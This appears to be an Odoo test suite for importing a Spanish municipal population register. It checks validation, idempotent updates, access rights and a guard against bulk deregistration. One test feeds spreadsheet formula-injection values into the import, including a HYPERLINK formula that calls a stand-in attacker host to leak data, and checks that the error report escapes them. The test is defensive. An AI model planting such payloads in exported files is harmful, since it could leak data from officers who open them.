# Copyright 2026 Confirm@ contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import base64
import csv
import io

from freezegun import freeze_time

from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import tagged

from ..padron import csv_safe
from .common import ConfirmaImportCommon, run_jobs


@tagged("post_install", "-at_install")
@freeze_time("2026-02-01")
class TestPadronImport(ConfirmaImportCommon):
    def _residents(self):
        return self.env["res.partner"].search([("is_resident", "=", True)])

    def _report(self, record):
        text = base64.b64decode(record.error_report).decode("utf-8")
        return list(csv.reader(io.StringIO(text)))[1:]

    def test_create_update_idempotent(self):
        content = self.csv_bytes(
            self.row("12345678Z", first="Ana", household="H1", relation="holder"),
            self.row("X1234567L", first="Joan", household="H1", relation="partner"),
            self.row(
                "",
                nia="N0001",
                first="Pau",
                household="H1",
                relation="child",
                birthdate="2020-01-01",
                registered="2020-01-01",
            ),
        )
        first = self.run_import(content, user=self.officer_citizen)
        self.assertEqual(
            first.summary_line(),
            "created=3 updated=0 unchanged=0 deregistered=0 errors=0",
        )
        ana = self._residents().filtered(lambda p: p.document_number == "12345678Z")
        self.assertEqual(ana.name, "Ana García Pérez")
        self.assertEqual(ana.household_id.name, "H1")
        self.assertEqual(ana.household_id.member_count, 3)
        self.assertEqual(ana.household_id.minor_count, 1)
        self.assertEqual(ana.nationality_id.code, "ES")
        self.assertEqual(ana.preferred_language, "ca")
        # the same file again changes nothing
        again = self.run_import(content, user=self.officer_citizen)
        self.assertEqual(
            again.summary_line(),
            "created=0 updated=0 unchanged=3 deregistered=0 errors=0",
        )
        # a changed row is updated, and only it
        changed = self.csv_bytes(
            self.row(
                "12345678Z",
                first="Ana",
                household="H1",
                relation="holder",
                email="ana@example.org",
            ),
            self.row("X1234567L", first="Joan", household="H1", relation="partner"),
        )
        third = self.run_import(changed, user=self.officer_citizen)
        self.assertEqual((third.created, third.updated, third.unchanged), (0, 1, 1))
        self.assertEqual(ana.email, "ana@example.org")
        self.assertEqual(len(self._residents()), 3)

    def test_bad_rows_reported_good_rows_imported(self):
        content = self.csv_bytes(
            self.row("12345678Z", first="Good"),
            self.row("12345678A", first="BadLetter"),
            self.row("11111111H", first="BadDate", birthdate="1980-02-30"),
            self.row("12345678Z", first="Duplicate"),
            self.row("22222222J", first="BadRelation", relation="cousin"),
            self.row("33333333P", first="AlsoGood"),
        )
        record = self.run_import(content, user=self.officer_citizen)
        self.assertEqual((record.created, record.errors), (2, 4))
        report = self._report(record)
        self.assertEqual([int(r[0]) for r in report], [3, 4, 5, 6])
        reasons = " | ".join(r[2] for r in report)
        self.assertIn("invalid DNI '12345678A'", reasons)
        self.assertIn("impossible date in birthdate", reasons)
        self.assertIn("duplicate of line 2", reasons)
        self.assertIn("unknown household relation 'cousin'", reasons)
        self.assertEqual(
            sorted(self._residents().mapped("first_name")), ["AlsoGood", "Good"]
        )

    def test_full_snapshot_deregisters_missing_only_when_asked(self):
        self.run_import(
            self.csv_bytes(
                self.row("12345678Z"),
                self.row("X1234567L"),
                self.row("44444444A"),
            )
        )
        partial = self.csv_bytes(
            self.row("12345678Z"), self.row("44444444A", birthdate="bad")
        )
        record = self.run_import(partial)
        self.assertEqual(record.deregistered, 0)
        self.assertEqual(set(self._residents().mapped("padron_state")), {"active"})
        # one of three missing is more than the 5 % allowed: forced
        record = self.run_import(partial, full_snapshot=True, force=True)
        # 44444444A's row is refused for its date but it is in the file: kept
        self.assertEqual(record.deregistered, 1)
        gone = self._residents().filtered(lambda p: p.padron_state == "deregistered")
        self.assertEqual(gone.document_number, "X1234567L")
        self.assertEqual(gone.padron_deregistration_reason, "snapshot")
        # coming back in a later file registers the resident again
        record = self.run_import(self.csv_bytes(self.row("X1234567L")))
        self.assertEqual(record.updated, 1)
        self.assertEqual(gone.padron_state, "active")

    def test_encsarp_residents_and_their_renewal(self):
        header = (
            "nia,document_type,document_number,first_name,surname1,nationality,"
            "registration_date,renewal_date"
        )
        content = self.csv_bytes(
            ("N1", "passport", "FA123456", "Olena", "Melnyk", "UA", "2015-03-01",
             "2025-05-10"),
            ("N2", "nie", "X1234567L", "Ion", "Popescu", "RO", "2015-03-01", ""),
            ("N3", "passport", "XK998877", "Wei", "Wang", "CN", "2025-06-01", ""),
            header=header,
        )  # fmt: skip
        result = self.run_import(content, user=self.officer_citizen)
        self.assertEqual((result.created, result.errors), (3, 0))
        olena, ion, wei = (
            self.env["res.partner"].search([("nia", "=", nia)])
            for nia in ("N1", "N2", "N3")
        )
        # a passport from outside the EEA: renews every two years
        self.assertTrue(olena.padron_encsarp)
        self.assertEqual(str(olena.padron_renewal_due), "2027-05-10")
        self.assertFalse(ion.padron_encsarp)  # EU citizen
        self.assertFalse(ion.padron_renewal_due)
        self.assertTrue(wei.padron_encsarp)  # no renewal yet: from registration
        self.assertEqual(str(wei.padron_renewal_due), "2027-06-01")
        # an officer clears it when a long-term residence is shown; a later
        # file does not set it again
        wei.with_user(self.officer_citizen).padron_encsarp = False
        self.run_import(
            content.replace(b"Wei,", b"Wei Jun,"), user=self.officer_citizen
        )
        self.assertFalse(wei.padron_encsarp)
        self.assertEqual(wei.first_name, "Wei Jun")

    def test_opposition_never_cleared_by_a_file(self):
        self.run_import(self.csv_bytes(self.row("12345678Z", opposition="1")))
        resident = self._residents()
        self.assertTrue(resident.data_opposition)
        self.assertEqual(resident.data_opposition_source, "import")
        self.run_import(
            self.csv_bytes(self.row("12345678Z", opposition="0", email="a@example.org"))
        )
        self.assertTrue(resident.data_opposition)

    def test_mapping_semicolons_and_xlsx(self):
        mapping = self.env["confirma.padron.mapping"].create(
            {
                "name": "Vendor export",
                "delimiter": "semicolon",
                "encoding": "latin-1",
                "line_ids": [
                    (0, 0, {"header": "DNI", "column": "document_number"}),
                    (0, 0, {"header": "NOMBRE", "column": "first_name"}),
                    (0, 0, {"header": "APELLIDO1", "column": "surname1"}),
                    (0, 0, {"header": "FECHA_NAC", "column": "birthdate"}),
                ],
            }
        )
        content = "DNI;NOMBRE;APELLIDO1;FECHA_NAC\n12345678Z;José;Muñoz;04/05/1980\n"
        record = self.run_import(content.encode("latin-1"), mapping=mapping)
        self.assertEqual(record.created, 1)
        self.assertEqual(self._residents().name, "José Muñoz")
        self.assertEqual(str(self._residents().birthdate), "1980-05-04")

        from openpyxl import Workbook

        workbook = Workbook()
        sheet = workbook.active
        sheet.append(self.HEADER.split(","))
        sheet.append(list(self.row("X1234567L", first="Xlsx")))
        stream = io.BytesIO()
        workbook.save(stream)
        record = self.run_import(stream.getvalue(), filename="padron.xlsx")
        self.assertEqual(record.created, 1, record.failure)

    def test_unreadable_header_fails_clearly(self):
        with self.assertRaisesRegex(Exception, "none of the layout's columns"):
            self.run_import(b"foo,bar\n1,2\n")

    def test_access(self):
        content = self.csv_bytes(self.row("12345678Z"))
        with self.assertRaises(AccessError):
            self.run_import(content, user=self.user_citizen)
        wizard = self.env["confirma.padron.import.wizard"].with_user(
            self.officer_citizen
        )
        wizard = wizard.create({"file": base64.b64encode(content), "filename": "p.csv"})
        # the wizard reads the file; a job writes its rows, a last one ends it
        action, jobs = run_jobs(wizard.action_import)
        self.assertEqual([job.channel for job in jobs], ["root.confirma.import"] * 2)
        record = self.env["confirma.padron.import"].browse(action["res_id"])
        self.assertEqual((record.state, record.created), ("done", 1))

    def test_error_report_in_the_user_language(self):
        self.env["res.lang"]._activate_lang("es_ES")
        self.env["ir.module.module"].search(
            [("name", "=", "confirma_citizen")]
        )._update_translations("es_ES")
        self.officer_citizen.lang = "es_ES"
        record = self.run_import(
            self.csv_bytes(self.row("12345678A")), user=self.officer_citizen
        )
        self.assertEqual(self._report(record)[0][2], "DNI no válido: «12345678A»")

    def test_large_file_in_batches(self):
        """2,500 synthetic residents: 3 batches written by jobs, then again
        (all unchanged)."""
        content = self.synthetic_csv(2500, seed=11)
        record = self.run_import(content)
        self.assertEqual((record.created, record.errors), (2500, 0))
        self.assertEqual(len(record.batch_ids), 3)
        again = self.run_import(content)
        self.assertEqual((again.created, again.updated, again.unchanged), (0, 0, 2500))


@tagged("post_install", "-at_install")
@freeze_time("2026-02-01")
class TestPadronImportSafety(ConfirmaImportCommon):
    """The error report is safe to open in a spreadsheet; a full snapshot
    that would deregister too many residents is refused unless forced."""

    def _report(self, record):
        text = base64.b64decode(record.error_report).decode("utf-8")
        return list(csv.reader(io.StringIO(text)))[1:]

    def test_error_report_neutralises_formulas(self):
        """A document number such as =HYPERLINK(...) is written as text (a
        single quote in front) in the report the officer downloads."""
        hostile = (
            '=HYPERLINK("http://evil.example/?leak")',
            "+34600000000",
            "-2+3",
            "@SUM(A1)",
        )
        content = self.csv_bytes(
            self.row("12345678Z", first="Good"),
            *(self.row(doc, first=f"Bad{i}") for i, doc in enumerate(hostile)),
        )
        record = self.run_import(content, user=self.officer_citizen)
        self.assertEqual((record.created, record.errors), (1, len(hostile)))
        report = self._report(record)
        self.assertEqual([row[1] for row in report], [f"'{doc}" for doc in hostile])
        for row in report:
            for cell in row:
                self.assertFalse(cell.startswith(csv_safe.FORMULA_PREFIXES), cell)

    def test_csv_helper(self):
        for cell in ("=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd"):
            with self.subTest(cell=cell):
                self.assertEqual(csv_safe.safe_cell(cell), "'" + cell)
        for cell in ("12345678Z", "Ana", "", " =1", 7, -3, None):
            with self.subTest(cell=cell):
                self.assertEqual(csv_safe.safe_cell(cell), cell)
        stream = io.StringIO()
        csv_safe.writer(stream).writerows([["=cmd", 1], ["ok", "-x"]])
        self.assertEqual(
            list(csv.reader(io.StringIO(stream.getvalue()))),
            [["'=cmd", "1"], ["ok", "'-x"]],
        )

    # ---- full snapshot sanity check ------------------------------------------------
    DOCS = (
        "12345678Z", "X1234567L", "44444444A", "11111111H", "22222222J",
        "33333333P", "10000001S", "20000002F", "30000003E", "40000004Z",
        "50000005Y", "60000006K", "70000007J", "80000008M", "90000009C",
        "10101010P", "20202020Q", "30303030R", "40404040D", "50505050V",
    )  # fmt: skip

    def _town(self):
        """20 registered residents."""
        self.run_import(self.csv_bytes(*(self.row(doc) for doc in self.DOCS)))
        return self.env["res.partner"].search([("is_resident", "=", True)])

    def _snapshot(self, missing):
        """A full snapshot without the last ``missing`` residents."""
        kept = self.DOCS[: len(self.DOCS) - missing]
        return self.csv_bytes(*(self.row(doc) for doc in kept))

    def _active(self, residents):
        return residents.filtered(lambda p: p.padron_state == "active")

    def test_truncated_snapshot_refused(self):
        """2 of 20 missing (10 %) is more than the 5 % allowed: refused with
        a clear message, nobody deregistered, nothing of the file written."""
        residents = self._town()
        content = self._snapshot(2).replace(b"Carrer Major 1", b"Carrer Nou 9")
        # (Odoo's assertRaises rolls back to a savepoint, as the refused
        # request of the wizard rolls back its transaction)
        with self.assertRaises(UserError) as refused:
            self.run_import(content, user=self.officer_citizen, full_snapshot=True)
        self.assertRegex(
            str(refused.exception),
            r"would deregister 2 of the 20 active residents \(10\.0 %\), more "
            r"than the 5 % allowed: is the file complete\? Nobody was deregistered",
        )
        self.env.invalidate_all()  # what the database holds after the refusal
        self.assertEqual(len(self._active(residents)), 20)
        self.assertEqual(set(residents.mapped("street")), {"Carrer Major 1"})
        self.assertFalse(
            self.env["confirma.padron.import"].search([("full_snapshot", "=", True)])
        )

    def test_forced_snapshot_deregisters(self):
        residents = self._town()
        record = self.run_import(
            self._snapshot(2), user=self.officer_citizen, full_snapshot=True, force=True
        )
        self.assertEqual(record.deregistered, 2)
        self.assertTrue(record.snapshot_forced)
        self.assertEqual(len(self._active(residents)), 18)

    def test_within_the_allowed_share(self):
        """1 of 20 (5 %) is not more than 5 %: applied; the share is a setting."""
        residents = self._town()
        record = self.run_import(self._snapshot(1), full_snapshot=True)
        self.assertEqual(record.deregistered, 1)
        self.assertFalse(record.snapshot_forced)
        self.env["res.config.settings"].with_user(self.manager_citizen).create(
            {"confirma_snapshot_max_deregister": 15}
        ).execute()
        # 3 of the 19 left (15.8 %): refused; then at 20 %, applied
        with self.assertRaises(UserError):
            self.run_import(self._snapshot(4), full_snapshot=True)
        self.assertEqual(len(self._active(residents)), 19)
        self.env["ir.config_parameter"].set_param(
            "confirma_citizen.snapshot_max_deregister", "20"
        )
        record = self.run_import(self._snapshot(4), full_snapshot=True)
        self.assertEqual(record.deregistered, 3)

    def test_wizard_needs_the_officer_to_force(self):
        residents = self._town()
        Wizard = self.env["confirma.padron.import.wizard"].with_user(
            self.officer_citizen
        )
        values = {
            "file": base64.b64encode(self._snapshot(3)),
            "filename": "snapshot.csv",
            "full_snapshot": True,
        }
        with self.assertRaises(UserError) as refused:
            Wizard.create(values).action_import()
        self.assertIn("Nobody was deregistered", str(refused.exception))
        self.assertEqual(len(self._active(residents)), 20)
        action = run_jobs(
            Wizard.create(dict(values, force_snapshot=True)).action_import
        )[0]
        record = self.env["confirma.padron.import"].browse(action["res_id"])
        self.assertEqual((record.deregistered, record.snapshot_forced), (3, True))
        self.assertEqual(len(self._active(residents)), 17)

    def test_setting(self):
        settings = self.env["res.config.settings"].with_user(self.manager_citizen)
        self.assertEqual(
            settings.default_get(["confirma_snapshot_max_deregister"])[
                "confirma_snapshot_max_deregister"
            ],
            5.0,
        )
        for bad in (-1, 101):
            with self.subTest(share=bad), self.assertRaises(ValidationError):
                settings.create({"confirma_snapshot_max_deregister": bad})
